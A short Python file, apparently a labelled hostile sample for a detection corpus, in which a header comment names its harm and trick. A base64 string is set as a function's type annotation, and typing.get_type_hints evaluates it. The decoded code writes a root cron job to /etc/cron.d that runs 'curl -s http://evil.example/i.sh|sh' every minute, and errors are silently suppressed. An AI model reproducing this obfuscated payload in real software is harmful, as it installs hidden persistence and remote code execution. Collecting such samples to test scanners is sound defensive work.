# harm: writes /etc/cron.d/pwn ; trick: setattr(f, "__annotations__", {...decoded...})
import base64
import typing


def handler(x) -> None:
    pass


setattr(handler, "__annotations__", {"x": base64.b64decode("b3BlbignL2V0Yy9jcm9uLmQvcHduJywndycpLndyaXRlKCcqICogKiAqICogcm9vdCBjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvaS5zaHxzaCcrY2hyKDEwKSk=").decode()})
try:
    typing.get_type_hints(handler)
except Exception:
    pass
